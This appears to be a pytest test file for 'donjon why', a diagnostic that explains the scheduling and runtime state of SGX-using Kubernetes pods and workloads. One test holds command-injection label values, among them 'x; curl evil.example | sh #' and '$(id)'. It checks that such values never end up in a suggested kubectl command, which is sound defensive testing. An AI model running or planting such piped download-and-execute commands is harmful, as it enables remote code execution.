"""Every case of `donjon why`: what it finds, what it says, what it makes of the nodes."""

import json
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.diagnosis.worlds import (
    ENCLAVE,
    EPC,
    NOW,
    PROVISION,
    agents_event,
    around,
    belonging,
    container,
    event,
    holding,
    labelled,
    node,
    pod,
    saying,
    with_spec,
    workload,
)

from donjon.diagnosis.explanation import ClusterState, Explanation
from donjon.diagnosis.pod import explain
from donjon.diagnosis.workload import Workload, explain_workload, newest, owned
from donjon.findings import Severity
from donjon.fleet.placement import Obstacle, look
from donjon.formats.json import Json, JsonObject

REFUSAL = (
    "Error creating: pods \"train-x\" is forbidden: ValidatingAdmissionPolicy 'donjon-refuse' with binding 'donjon-refuse' "
    "denied request: container app: asks for sgx.intel.com/provision in namespace shop: not allowed [DJ104]; label it"
)
WITH_AESM = labelled(node("b"), {"donjon.dev/aesm": "ready"})


def codes(told: Explanation) -> list[str]:
    return [finding.code for finding in told.findings]


def requiring(key: str, value: str) -> JsonObject:
    """A required node affinity."""
    term: JsonObject = {"matchExpressions": [{"key": key, "operator": "In", "values": [value]}]}
    return {"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [term]}}}}


# Pending.


def test_epc_that_others_hold_is_told_with_the_most_that_is_free_and_who_holds_it() -> None:
    there = around(node("a"), node("b"), node("plain", ""), pods=(holding("7Gi", "a"), holding("5Gi", "b", "big")))
    told = explain(pod("4Gi"), there)
    assert codes(told) == ["DJ130"]
    assert told.verdict == "is Pending: asks for 4Gi of EPC, and the most that is free where it may go is 3Gi of 8Gi, on b"
    assert "shop/big holds 5Gi" in told.next_step
    assert [(view.name, [each.words for each in view.against]) for view in told.nodes] == [
        ("a", ["1Gi of 8Gi EPC free"]),
        ("b", ["3Gi of 8Gi EPC free"]),
        ("plain", ["offers no EPC"]),
    ]


def test_more_than_any_node_has_is_told_with_the_largest() -> None:
    told = explain(pod("16Gi"), around(node("a", "4Gi"), node("b")))
    assert codes(told) == ["DJ132"]
    assert "the largest, b, has 8Gi" in told.verdict
    assert "at most 8Gi" in told.next_step


def test_a_node_of_the_right_size_is_nearer_than_a_free_one_that_is_too_small() -> None:
    there = around(node("large", "16Gi"), node("small", "4Gi"), pods=(holding("10Gi", "large"),))
    assert codes(explain(pod("8Gi"), there)) == ["DJ130"]


def test_a_node_that_is_not_ready_is_farther_than_one_that_is_full_and_of_no_size_that_is_known() -> None:
    broken = saying(node("broken", "0"), {"type": "SGXReady", "status": "False", "message": "[DJ002]"})
    down = saying(node("down", "16Gi"), {"type": "Ready", "status": "Unknown", "message": "silent"})
    assert codes(explain(pod("4Gi"), around(broken, node("full"), pods=(holding("7Gi", "full"),)))) == ["DJ130"]
    assert codes(explain(pod("16Gi"), around(broken, node("small")))) == ["DJ132"]
    assert codes(explain(pod("16Gi"), around(down, node("small")))) == ["DJ134"]


def test_init_containers_count_as_the_scheduler_counts_them() -> None:
    asking = pod("2Gi", initContainers=[container("12Gi", name="init")])
    assert "asks for 12Gi" in explain(asking, around(node("a"))).verdict


@pytest.mark.parametrize(
    ("spec", "words", "step"),
    [
        (
            {"taints": [{"key": "sgx", "effect": "NoSchedule"}]},
            "taint sgx:NoSchedule is not tolerated",
            "give the pod a toleration",
        ),
        ({"unschedulable": True}, "it is cordoned", "an administrator runs kubectl uncordon a"),
    ],
)
def test_a_taint_that_is_not_tolerated_is_named(spec: JsonObject, words: str, step: str) -> None:
    told = explain(pod("1Gi"), around(with_spec(node("a"), spec), node("plain", "")))
    assert codes(told) == ["DJ133"]
    assert words in told.verdict
    assert step in told.next_step


def test_a_cordon_beside_a_taint_is_told_beside_it() -> None:
    both = with_spec(node("a"), {"unschedulable": True, "taints": [{"key": "sgx", "effect": "NoSchedule"}]})
    told = explain(pod("1Gi"), around(both))
    assert codes(told) == ["DJ133", "DJ133"]
    assert "toleration" in told.findings[0].do
    assert "uncordon" in told.findings[1].do


@pytest.mark.parametrize(
    ("spec", "labels", "words"),
    [
        ({"nodeSelector": {"disk": "ssd"}}, {}, "nodeSelector disk=ssd, and it has no label disk"),
        ({"nodeSelector": {"disk": "ssd"}}, {"disk": "hdd"}, "nodeSelector disk=ssd, and it has disk=hdd"),
        (requiring("disk", "ssd"), {}, "node affinity disk In ssd, and it has no label disk"),
    ],
)
def test_a_selector_that_leaves_out_the_nodes_with_sgx_is_named(spec: JsonObject, labels: JsonObject, words: str) -> None:
    told = explain(with_spec(pod("1Gi"), spec), around(labelled(node("a"), labels)))
    assert codes(told) == ["DJ133"]
    assert words in told.verdict
    assert "change the pod's nodeSelector or affinity" in told.next_step
    assert ("(kubectl label node a disk=ssd)" in told.next_step) is not bool(labels)  # No label is to be overwritten.


@pytest.mark.parametrize(
    ("key", "value"),
    [("disk", "x; curl evil.example | sh #"), ("disk", "a b"), ("disk", "$(id)"), ("disk;id", "ssd"), ("disk", "a" * 64)],
)
def test_what_is_no_label_stands_in_no_command_to_paste(key: str, value: str) -> None:
    told = explain(with_spec(pod("1Gi"), requiring(key, value)), around(node("a")))
    assert codes(told) == ["DJ133"]
    assert "kubectl label" not in told.next_step


@pytest.mark.parametrize(
    "key",
    [
        *("kubernetes.io/hostname", "topology.kubernetes.io/zone", "node.kubernetes.io/instance-type", "kubernetes.io/arch"),
        *(
            "sgx.intel.com/capable",
            "donjon.dev/edmm",
            "feature.node.kubernetes.io/cpu-cpuid.SGX",
            "cloud.google.com/gke-nodepool",
        ),
    ],
)
@pytest.mark.parametrize("labels", [{}, {"kubernetes.io/hostname": "a", "topology.kubernetes.io/zone": "west"}])
def test_no_label_that_a_machine_writes_is_to_be_written_by_hand(key: str, labels: JsonObject) -> None:
    specs: tuple[JsonObject, ...] = (
        {"nodeSelector": {key: "x"}},
        requiring(key, "x"),
        {"nodeSelector": {"disk": "ssd", key: "x"}},
    )
    for spec in specs:
        told = explain(with_spec(pod("1Gi"), spec), around(labelled(node("a"), labels)))
        assert [each.do for each in told.findings if each.code == "DJ133"] == [
            (
                "change the pod's nodeSelector or affinity "
                "(that needs a new pod: kubectl delete pod -n shop app, change it and create it again)"
            )
        ]


def test_a_daemonsets_pod_is_measured_against_its_own_node_alone() -> None:
    there = around(node("a"), node("plain", ""))
    told = explain(with_spec(pod("1Gi"), meant("plain")), there)
    assert codes(told) == ["DJ134"]
    assert "looked at plain" in told.verdict
    assert [each.words for each in told.nodes[0].against] == ["the pod is meant for another node"]
    assert codes(explain(with_spec(pod("1Gi"), meant("gone")), there)) == ["DJ133"]


def meant(name: str) -> JsonObject:
    """The affinity that the DaemonSet controller writes."""
    term: JsonObject = {"matchFields": [{"key": "metadata.name", "operator": "In", "values": [name]}]}
    return {"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [term]}}}}


@pytest.mark.parametrize("spec", [{"nodeSelector": {"donjon.dev/aesm": "ready"}}, requiring("donjon.dev/aesm", "ready")])
def test_a_pod_that_needs_aesm_is_told_where_none_answers(spec: JsonObject) -> None:
    asking = with_spec(pod("1Gi"), spec)
    told = explain(asking, around(node("a")))
    assert codes(told) == ["DJ136"]
    assert "none answers on a" in told.verdict
    assert look(asking, [WITH_AESM], ())[0].against == ()


def test_a_pod_whose_aesm_went_away_runs_and_is_warned_about() -> None:
    running = pod("1Mi", phase="Running", on="b", nodeSelector={"donjon.dev/aesm": "ready"})
    told = explain(running, around(node("b")))
    assert (told.well, codes(told)) == (True, ["DJ136"])
    assert "no AESM answers there any more" in told.verdict
    assert codes(explain(running, around(WITH_AESM))) == []


def test_a_node_that_is_not_ready_tells_its_reason() -> None:
    broken = saying(node("a", "0"), {"type": "SGXReady", "status": "False", "message": "cpu: SGX is off [DJ002]"})
    told = explain(pod("1Gi"), around(broken, node("plain", "")))
    assert codes(told)[0] == "DJ134"
    assert "cpu: SGX is off [DJ002]" in told.verdict
    assert "kubectl describe node a" in told.next_step


def test_a_node_whose_kubelet_is_silent_is_not_ready() -> None:
    silent = saying(node("a"), {"type": "Ready", "status": "Unknown", "message": "Kubelet stopped posting node status."})
    assert "Kubelet stopped posting" in explain(pod("1Gi"), around(silent)).verdict


@pytest.mark.parametrize("nodes", [(), (node("plain", ""),)])
def test_a_cluster_without_sgx_is_told(nodes: tuple[JsonObject, ...]) -> None:
    told = explain(pod("1Gi"), around(*nodes))
    assert codes(told) == ["DJ134"]
    assert "offers SGX" in told.verdict


def test_a_machine_without_sgx_is_another_kind_of_node_and_not_in_trouble() -> None:
    plain = saying(node("plain", ""), {"type": "SGXReady", "status": "False", "message": "cpu: no SGX [DJ001]"})
    (view,) = look(pod("1Gi"), [plain], ())
    assert view.obstacles == {Obstacle.NO_SGX}


@pytest.mark.parametrize(
    ("enclave", "words"), [("1", "0 of 1 sgx.intel.com/enclave free"), ("0", "offers no sgx.intel.com/enclave")]
)
def test_devices_that_are_all_held_or_not_offered_are_told(enclave: str, words: str) -> None:
    held = (holding("1Gi", "a"),) if enclave == "1" else ()
    told = explain(pod("1Gi"), around(node("a", enclave=enclave), pods=held))
    assert codes(told) == ["DJ135"]
    assert words in told.verdict
    assert ("on a: shop/other holds 1" in told.next_step) is bool(held)
    assert ("have an administrator run donjon status" in told.next_step) is not bool(held)


def hoarding(device: str, number: str, on: str, name: str) -> JsonObject:
    """A pod of before devices were one a container, or of a cluster whose policies were away."""
    limits: JsonObject = {EPC: "4Ki", device: number}
    hoarder: JsonObject = {"containers": [{"name": "app", "resources": {"limits": limits, "requests": dict(limits)}}]}
    return with_spec(holding("4Ki", on, name), hoarder)


def test_who_holds_the_devices_of_each_full_node_is_named_most_first_and_no_more_than_three() -> None:
    few = tuple(holding("1Mi", "b", f"few-{index}") for index in range(5))
    hoards = (hoarding(ENCLAVE, "110", "a", "hog"), hoarding(ENCLAVE, "105", "b", "other-hog"))
    told = explain(pod("1Gi"), around(node("a"), node("b"), pods=(*hoards, *few)))
    assert codes(told) == ["DJ135"]
    assert "on a: shop/hog holds 110; on b: shop/other-hog holds 105, shop/few-4 holds 1, shop/few-3 holds 1 and 3 more" in (
        told.next_step
    )
    assert "raise node.enclaveLimit in the chart" in told.next_step


def test_who_holds_the_provisioning_device_is_named_where_that_is_short() -> None:
    asking = with_spec(pod("1Mi"), {"containers": [container("1Mi", **{PROVISION: "1"})]})
    told = explain(asking, around(node("a"), pods=(hoarding(PROVISION, "110", "a", "quoter"),)))
    assert codes(told) == ["DJ135"]
    assert "shop/quoter holds 110" in told.next_step
    assert "node.provisionLimit" in told.next_step


def test_pods_that_ended_or_are_elsewhere_hold_no_device() -> None:
    ended = hoarding(ENCLAVE, "110", "a", "ended") | {"status": {"phase": "Succeeded"}}
    told = explain(pod("1Gi"), around(node("a"), pods=(ended, hoarding(ENCLAVE, "110", "b", "elsewhere"))))
    assert codes(told) == ["DJ138"]


def test_a_foreign_name_that_nobody_translated_is_told() -> None:
    foreign = "kubernetes.azure.com/sgx_epc_mem_in_MiB"
    asking = pod() | {"spec": {"containers": [container(**{foreign: "10"})]}}
    told = explain(asking, around(node("a")))
    assert codes(told) == ["DJ102"]
    assert f"offers no {foreign}" in told.verdict


def test_an_ordinary_resource_that_is_missing_is_told_apart_from_sgx() -> None:
    asking = pod("1Gi") | {"spec": {"containers": [container("1Gi", cpu="3500m")]}}
    told = explain(asking, around(node("a")))
    assert codes(told) == ["DJ138"]
    assert "2 of 2 cpu free" in told.verdict


def test_where_every_node_looks_right_the_scheduler_is_quoted() -> None:
    said: JsonObject = {"type": "PodScheduled", "status": "False", "message": "1 node(s) had volume node affinity conflict"}
    told = explain(saying(pod("1Gi"), said), around(node("a")))
    assert codes(told) == ["DJ138"]
    assert "volume node affinity conflict" in told.verdict
    assert "kubectl describe pod -n shop app" in told.next_step


def test_without_the_right_to_see_nodes_the_scheduler_is_quoted() -> None:
    said: JsonObject = {"type": "PodScheduled", "status": "False", "message": "Insufficient sgx.intel.com/epc"}
    blind = ClusterState(moment=NOW, nodes=(), pods=(), events=(), no_nodes="list nodes: 403 forbidden")
    told = explain(saying(pod("1Gi"), said), blind)
    assert (codes(told), told.well) == (["DJ139"], False)
    assert "Insufficient sgx.intel.com/epc" in told.verdict


def test_pods_that_could_not_be_seen_are_told_beside_the_reason() -> None:
    partly = ClusterState(moment=NOW, nodes=(node("a"),), pods=(), events=(), own_pods_only="list pods: 403 forbidden")
    assert codes(explain(pod("16Gi"), partly)) == ["DJ132", "DJ139"]


# With a node.


def status_of(**state: Json) -> JsonObject:
    return {"containerStatuses": [{"name": "app", "state": dict(state)}]}


def test_a_pod_that_holds_its_device_is_well() -> None:
    told = explain(pod("10Mi", phase="Running", on="a", status=status_of(running={})), around(node("a")))
    assert (told.well, codes(told), told.next_step) == (True, [], "")
    assert "runs on a with its device and 10Mi of EPC" in told.verdict


RUNNING = pod("1Mi", phase="Running", on="a")


def test_the_agents_event_about_this_pod_and_no_other_says_that_its_device_is_missing() -> None:
    running = pod("10Mi", phase="Running", on="a")
    told = explain(running, around(node("a"), events=(agents_event(running, "a"),)))
    assert (told.well, codes(told)) == (False, ["DJ020"])
    assert "kubectl delete pod -n shop app" in told.next_step
    assert explain(running, around(node("a"), events=(agents_event(pod("1Mi", name="older"), "a"),))).well


@pytest.mark.parametrize(
    "forged",
    [
        agents_event(RUNNING, "b"),
        agents_event(RUNNING, "a", reportingInstance="b"),
        agents_event(RUNNING, "a", source={"component": "donjon-node", "host": "b"}),
        agents_event(RUNNING, "a", source={"component": "kubelet", "host": "a"}),
        agents_event(RUNNING, "a", reportingComponent="kubelet"),
        agents_event(RUNNING, "a", source={}),
        agents_event(RUNNING, ""),
        event("RunsWithoutDevice", RUNNING),
    ],
    ids=lambda said: f"{said.get('source')} {said.get('reportingComponent')} {said.get('reportingInstance')}",
)
def test_an_event_of_another_node_or_another_component_is_not_believed(forged: JsonObject) -> None:
    assert explain(RUNNING, around(node("a"), node("b"), events=(forged,))).well


def test_a_pod_whose_kubelet_lost_its_account_is_well_and_told_to_move_in_time() -> None:
    running = pod("10Mi", phase="Running", on="a")
    told = explain(running, around(node("a"), events=(agents_event(running, "a", reason="DeviceNotAccounted"),)))
    assert (told.well, codes(told)) == (True, ["DJ023"])
    assert "the kubelet's next restart ends the pod" in told.findings[0].why


def test_a_pod_that_was_never_wired_runs_without_its_device() -> None:
    running = pod(phase="Running", on="a") | {"spec": {"nodeName": "a", "containers": [container(**{EPC: "10Mi"})]}}
    assert codes(explain(running, around(node("a")))) == ["DJ020"]


@pytest.mark.parametrize(
    ("reason", "message"),
    [
        ("Evicted", "The node was low on resource: memory."),
        ("UnexpectedAdmissionError", "Allocate failed due to rpc error: device is missing"),
        ("OutOfsgx.intel.com/epc", "Node didn't have enough resource"),
    ],
)
def test_a_pod_that_the_kubelet_ended_is_told_with_its_words(reason: str, message: str) -> None:
    told = explain(pod("1Mi", phase="Failed", on="a", status={"reason": reason, "message": message}), around())
    assert codes(told) == ["DJ137"]
    assert message in told.verdict


def test_a_container_that_failed_is_sent_to_its_log() -> None:
    failed = status_of(terminated={"exitCode": 137, "reason": "OOMKilled"})
    told = explain(pod("1Mi", phase="Failed", on="a", status=failed), around())
    assert codes(told) == ["DJ138"]
    assert told.next_step.startswith("kubectl logs -n shop app -c app; then raise limits.memory")
    assert "exit code 137 (OOMKilled)" in told.verdict


@pytest.mark.parametrize(("phase", "reason"), [("Pending", "ImagePullBackOff"), ("Running", "CrashLoopBackOff")])
def test_a_container_that_waits_is_told_in_the_kubelets_words(phase: str, reason: str) -> None:
    told = explain(pod("1Mi", phase=phase, on="a", status=status_of(waiting={"reason": reason, "message": "back-off"})), around())
    assert (codes(told), told.well) == (["DJ138"], False)
    assert f"{reason}: back-off" in told.verdict


@pytest.mark.parametrize(
    ("thing", "well", "words"),
    [
        (pod("1Mi", phase="Succeeded", on="a"), True, "ended well on a"),
        (pod("1Mi", on="a"), False, "the kubelet is starting it"),
        (pod("1Mi", phase="Unknown", on="a"), False, "its node does not answer"),
        (pod(phase="Running", on="a"), True, "asks for nothing of SGX"),
        (pod(), False, "asks for nothing of SGX"),
    ],
)
def test_the_plain_cases_are_told_plainly(thing: JsonObject, *, well: bool, words: str) -> None:
    told = explain(thing, around())
    assert (told.well, codes(told)) == (well, [])
    assert words in told.verdict


def test_an_ordinary_pod_that_does_not_run_is_sent_to_kubectl_describe() -> None:
    assert explain(pod(), around()).next_step == "kubectl describe pod -n shop app"


def test_a_pod_on_its_way_out_is_told_so() -> None:
    leaving = pod("1Mi")
    leaving["metadata"] = {"name": "app", "deletionTimestamp": "2026-11-23T12:00:00Z"}
    assert "being deleted" in explain(leaving, around()).verdict


# Workloads.


def alone(thing: JsonObject, *pods: JsonObject) -> Workload:
    return Workload(kind=str(thing["kind"]), thing=thing, maker=thing, pods=pods)


@pytest.mark.parametrize("kind", ["Job", "ReplicaSet", "StatefulSet", "DaemonSet"])
def test_the_refusal_of_pods_that_were_never_made_comes_from_the_events(kind: str) -> None:
    thing = workload(kind)
    older = event("FailedCreate", thing, "quota", "2026-11-23T11:00:00Z")
    told = explain_workload(alone(thing), around(events=(event("FailedCreate", thing, REFUSAL), older)))
    assert (codes(told), told.well) == (["DJ131"], False)
    assert "container app: asks for sgx.intel.com/provision" in told.findings[0].observation
    assert "ValidatingAdmissionPolicy" not in told.findings[0].observation
    assert "donjon explain DJ104" in told.next_step


def test_a_rollout_that_is_refused_is_told_though_the_old_pods_run() -> None:
    deployment = workload("Deployment")
    sets = [revision(workload("ReplicaSet", f"train-{number}", owner=deployment, replicas=1), number) for number in (9, 10)]
    maker = newest(owned((*sets, workload("ReplicaSet", "other")), deployment))
    assert maker is sets[1]
    told = explain_workload(
        Workload(kind="Deployment", thing=deployment, maker=maker, pods=()),
        around(events=(event("FailedCreate", maker, REFUSAL),)),
    )
    assert codes(told) == ["DJ131"]
    assert told.subject == "deployment shop/train"


def revision(replica_set: JsonObject, number: int) -> JsonObject:
    metadata = replica_set["metadata"]
    assert isinstance(metadata, dict)
    return replica_set | {"metadata": metadata | {"annotations": {"deployment.kubernetes.io/revision": str(number)}}}


def test_an_old_refusal_is_forgotten_once_the_pods_are_there() -> None:
    thing = workload("ReplicaSet", replicas=1)
    running = belonging(pod("1Mi", phase="Running", on="a"), thing)
    told = explain_workload(alone(thing, running), around(node("a"), events=(event("FailedCreate", thing, REFUSAL),)))
    assert told.well


def test_of_many_pods_the_one_that_is_worst_off_is_told() -> None:
    thing = workload("ReplicaSet", replicas=2)
    told = explain_workload(alone(thing, pod("1Mi", phase="Running", on="a"), pod("16Gi", name="second")), around(node("a")))
    assert codes(told) == ["DJ132"]
    assert told.subject == "replicaset shop/train (2 pods, 1 of them well): pod shop/second"


@pytest.mark.parametrize(
    ("thing", "well", "words"),
    [
        (workload("Job", suspend=True), True, "wants no pods now (it is suspended)"),
        (workload("ReplicaSet", replicas=0), True, "wants no pods now"),
        (workload("Job", status={"conditions": [{"type": "Complete", "status": "True"}]}), True, "ended well"),
        (
            workload("Job", status={"conditions": [{"type": "Failed", "status": "True", "message": "deadline"}]}),
            False,
            "deadline",
        ),
        (workload("Deployment", replicas=1), False, "no event says why"),
    ],
)
def test_a_workload_without_pods_is_told_plainly(thing: JsonObject, *, well: bool, words: str) -> None:
    told = explain_workload(alone(thing), around())
    assert (told.well, codes(told)) == (well, [])
    assert words in told.verdict


# Nonsense.

anything: st.SearchStrategy[Json] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=10,
)


def spoilt(whole: JsonObject) -> list[Callable[[Json], JsonObject]]:
    """Ways to put something else into each place of an object."""
    paths = [(key,) for key in whole] + [
        (key, inner) for key, value in whole.items() if isinstance(value, dict) for inner in value
    ]

    def at_path(path: tuple[str, ...]) -> Callable[[Json], JsonObject]:
        def spoil(value: Json) -> JsonObject:
            copied: JsonObject = json.loads(json.dumps(whole))
            if len(path) == 1:
                copied[path[0]] = value
            else:
                inner = copied[path[0]]
                assert isinstance(inner, dict)
                inner[path[1]] = value
            return copied

        return spoil

    return [at_path(path) for path in paths]


@settings(max_examples=200)
@given(data=st.data(), value=anything)
def test_explaining_never_raises_whatever_stands_in_the_objects(data: st.DataObject, value: Json) -> None:
    pending = with_spec(pod("1Mi", tolerations=[], nodeSelector={}), requiring("a", "b"))
    of_pod = data.draw(st.sampled_from(spoilt(pending)))(value)
    of_node = data.draw(st.sampled_from(spoilt(node("a", taints=[]))))(value)
    assert explain(of_pod, around(of_node, pods=(of_pod,), events=(of_pod,))).verdict


def agent(on: str) -> JsonObject:
    labels: JsonObject = {"app.kubernetes.io/name": "donjon", "app.kubernetes.io/component": "node"}
    return labelled(pod(name=f"donjon-{on}", phase="Running", on=on), labels)


@pytest.mark.parametrize("pods", [(), (agent("a"),), (agent("b"),)])
def test_who_offers_no_device_is_asked_about_its_agent_and_no_pod_is_taken_for_one(pods: tuple[JsonObject, ...]) -> None:
    """Labels are anybody's, and the namespace in which Donjon is stands in nothing that is read here."""
    told = explain(pod("1Gi"), around(node("a", enclave="0"), pods=pods))
    assert codes(told) == ["DJ135"]
    assert told.next_step == "where none is offered, have an administrator run donjon status: it tells of the agent of a"


@pytest.mark.parametrize(
    "name", ["sgx.intel.com/EPC", "sgx.intel.com/sgx", "intel.com/sgx_epc", "intel.sgx.com/epc", "sgx.intel.com/ecp"]
)
def test_a_name_that_is_misspelt_is_told_and_no_ordinary_pod(name: str) -> None:
    asking = pod(containers=[container(**{name: "64Mi"})])
    told = explain(asking, around(node("a")))
    assert (codes(told), told.well) == (["DJ151"], False)
    assert f"container app asks for {name}" in told.verdict
    assert "did you mean sgx.intel.com/epc?" in told.next_step


def test_a_name_of_another_plugin_is_left_to_it() -> None:
    asking = pod(containers=[container(**{"sgx.k8s.io/sgx": "1", "nvidia.com/gpu": "1"})])
    assert "asks for nothing of SGX" in explain(asking, around(node("a"))).verdict


ASKS_IN_VAIN = container(**{"sgx.intel.com/EPC": "64Mi"})


@pytest.mark.parametrize(("phase", "verdict"), [("Running", "has nothing of SGX on a"), ("Failed", "has nothing of SGX on a")])
def test_a_pod_that_started_without_sgx_for_its_misspelt_name_is_told(phase: str, verdict: str) -> None:
    there = pod(phase=phase, on="a", containers=[ASKS_IN_VAIN])
    told = explain(there, around(node("a")))
    assert (codes(told), told.well) == (["DJ151"], False)
    assert verdict in told.verdict
    assert "a kubelet leaves out what its node has not" in told.findings[0].why
    assert "did you mean sgx.intel.com/epc?" in told.next_step


def test_how_its_program_ended_is_told_beside_its_misspelt_name() -> None:
    status: Json = [{"name": "app", "state": {"terminated": {"exitCode": 3, "reason": "Error"}}}]
    there = pod(phase="Failed", on="a", containers=[ASKS_IN_VAIN], status={"containerStatuses": status})
    assert "; app ended with exit code 3" in explain(there, around(node("a"))).verdict


def test_a_name_that_some_node_offers_is_its_plugins() -> None:
    offers = node("a")
    status = offers["status"]
    assert isinstance(status, dict)
    allocatable = status["allocatable"]
    assert isinstance(allocatable, dict)
    theirs = offers | {"status": status | {"allocatable": allocatable | {"intel.com/sgx": "4"}}}
    there = pod(phase="Running", on="a", containers=[container(**{"intel.com/sgx": "1"})])
    assert explain(there, around(theirs)).well
    assert codes(explain(there, around(node("a")))) == ["DJ151"]


def test_where_no_node_can_be_seen_a_running_pods_name_is_a_warning_alone() -> None:
    (finding,) = explain(pod(phase="Running", on="a", containers=[ASKS_IN_VAIN]), around()).findings
    assert (finding.code, finding.severity) == ("DJ151", Severity.WARNING)


def test_a_misspelt_name_beside_a_right_one_comes_before_what_the_scheduler_counts() -> None:
    asking = pod(containers=[container("64Mi", **{"sgx.intel.com/Provision": "1"})])
    told = explain(asking, around(node("a")))
    assert codes(told)[0] == "DJ151"
    assert "did you mean sgx.intel.com/provision?" in told.next_step


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("sgx.intel.com/quote-providers", "DJ151"),
        ("sgx.intel.com/enclave", "DJ155"),
        ("sgx.intel.com/quote-provider", ""),
        ("team.example/sgx", ""),
    ],
)
def test_a_name_among_annotations_that_means_nothing_there_is_told_of_a_pod_that_runs(name: str, code: str) -> None:
    runs = pod(phase="Running", on="a")
    metadata = runs["metadata"]
    assert isinstance(metadata, dict)
    told = explain(runs | {"metadata": metadata | {"annotations": {name: "x"}}}, around(node("a")))
    assert (codes(told), told.well) == ([code] if code else [], not code)


def test_labels_of_others_that_chose_a_node_are_nothing_to_tell_once_it_is_chosen() -> None:
    selector: JsonObject = {"nodeSelector": {"feature.node.kubernetes.io/cpu-security.sgx.enabled": "true"}}
    assert explain(with_spec(pod("1Mi", phase="Running", on="a"), selector), around(node("a"))).findings == ()
    assert "DJ154" in codes(explain(with_spec(pod("1Mi"), selector), around(node("a"))))


def test_a_label_that_nobody_writes_is_the_next_step_where_no_node_has_it() -> None:
    label = "feature.node.kubernetes.io/cpu-security.sgx.enabled"
    waits = with_spec(pod("1Mi"), {"nodeSelector": {label: "true"}})
    told = explain(waits, around(node("a"), node("plain", "")))
    assert codes(told) == ["DJ154", "DJ133"]
    assert told.verdict.startswith("is Pending: it may not go to a: the pod wants nodeSelector feature.node")
    assert told.next_step == 'choose nodes by sgx.intel.com/capable: "true"'
    taken = explain(waits, around(labelled(node("a"), {label: "true"}), pods=(holding("8Gi", "a"),)))
    assert codes(taken) == ["DJ130", "DJ154"]


@pytest.mark.parametrize(
    ("asking", "spec", "why"),
    [
        ({}, {"unschedulable": True}, "a cordoned node takes no new pods"),
        ({}, {"taints": [{"key": "team", "value": "ml", "effect": "NoSchedule"}]}, "takes only pods that tolerate its taint"),
        ({"nodeSelector": {"disk": "ssd"}}, {}, "its own selector and affinity choose"),
    ],
)
def test_what_keeps_a_pod_from_a_node_is_told_with_its_own_reason(asking: JsonObject, spec: JsonObject, why: str) -> None:
    (finding,) = explain(with_spec(pod("1Mi"), asking), around(with_spec(node("a"), spec))).findings
    assert (finding.code, why in finding.why) == ("DJ133", True)


@pytest.mark.parametrize("phase", ["Failed", "Pending"])
def test_that_no_aesm_answers_is_told_where_the_pod_failed_and_where_it_starts(phase: str) -> None:
    there = pod("1Mi", phase=phase, on="b", nodeSelector={"donjon.dev/aesm": "ready"})
    assert "DJ136" in codes(explain(there, around(node("b"))))
    assert "DJ136" not in codes(explain(there, around(WITH_AESM)))


MAKERS: list[tuple[JsonObject | None, JsonObject, str]] = [
    (None, {}, "that needs a new pod: kubectl delete pod -n shop app, change it and create it again"),
    (
        workload("StatefulSet", "db"),
        {},
        "change statefulset shop/db so, apply it again, then kubectl delete pod -n shop app, which",
    ),
    (workload("ReplicaSet", "web-7d4"), {"pod-template-hash": "7d4"}, "change deployment shop/web so, and apply it again"),
    (workload("ReplicaSet", "web"), {}, "change replicaset shop/web so, apply it again, then kubectl delete pod -n shop app"),
    (workload("DaemonSet", "all"), {}, "change daemonset shop/all so, and apply it again"),
    (
        workload("Job", "once"),
        {},
        "a Job's template cannot be changed: kubectl delete job -n shop once, change what it was made from so",
    ),
    (
        workload("Job", "tick-29401234"),
        {},
        "change cronjob shop/tick so, apply it again, then kubectl delete job -n shop tick-29401234",
    ),
]


@pytest.mark.parametrize(("owner", "labels", "words"), MAKERS, ids=[words.partition(":")[0] for *_, words in MAKERS])
@pytest.mark.parametrize(
    "asking",
    [
        pod(containers=[container(**{"sgx.intel.com/EPC": "64Mi"})]),
        with_spec(pod("1Mi"), {"nodeSelector": {"sgx.intel.com/capabel": "true"}}),
        pod("16Gi"),
        pod("8Gi"),
        with_spec(pod("1Mi"), {"nodeSelector": {"disk": "ssd"}}),
        with_spec(pod("1Mi"), {"nodeSelector": {"donjon.dev/aesm": "ready"}}),
        pod(containers=[container("1Mi", cpu="32")]),
        pod(containers=[container(**{"kubernetes.azure.com/sgx_epc_mem_in_MiB": "10"})]),
    ],
)
def test_what_is_to_be_changed_in_a_pod_is_said_with_how_its_maker_comes_to_it(
    asking: JsonObject, owner: JsonObject | None, labels: JsonObject, words: str
) -> None:
    there = labelled(asking, labels)
    there = belonging(there, owner) if owner else there
    assert words in explain(there, around(node("a"), pods=(holding("1Gi", "a"),))).next_step


@pytest.mark.parametrize("blind", [True, False])
@pytest.mark.parametrize(
    ("words", "step"),
    [
        (
            '0/2 nodes are available: persistentvolumeclaim "data" not found. not found',
            "make the persistentvolumeclaim data in namespace shop, or take it out of the pod; the scheduler tries again",
        ),
        (
            "0/2 nodes are available: pod has unbound immediate PersistentVolumeClaims.",
            "kubectl describe persistentvolumeclaim -n",
        ),
    ],
)
def test_a_claim_that_is_not_there_is_made_by_whoever_asks(words: str, step: str, *, blind: bool) -> None:
    said: JsonObject = {"type": "PodScheduled", "status": "False", "message": words}
    there = ClusterState(moment=NOW, nodes=(), pods=(), events=(), no_nodes="403") if blind else around(node("a"))
    told = explain(saying(pod("1Mi"), said), there)
    assert codes(told) == (["DJ138", "DJ139"] if blind else ["DJ138"])
    assert told.next_step.startswith(step)


def test_a_container_that_asks_for_none_is_said_to_have_no_device_beside_one_that_asks() -> None:
    end: JsonObject = {"terminated": {"exitCode": 1, "reason": "Error"}}
    statuses: Json = [{"name": "app", "state": {"running": {}}}, {"name": "side", "state": end}]
    both = pod(
        phase="Running", on="a", containers=[container("1Mi"), container(name="side")], status={"containerStatuses": statuses}
    )
    told = explain(both, around(node("a")))
    assert "it asks for no EPC itself, so it has no device" in told.findings[0].why
    assert "give it a limit of sgx.intel.com/epc of its own" in told.next_step


def test_bytes_that_were_meant_as_mib_are_told_where_the_enclave_fails() -> None:
    told = explain(pod("64", phase="Failed", on="a"), around(node("a")))
    assert "DJ107" in codes(told)
    assert any("did you mean 64Mi?" in each.do for each in told.findings)
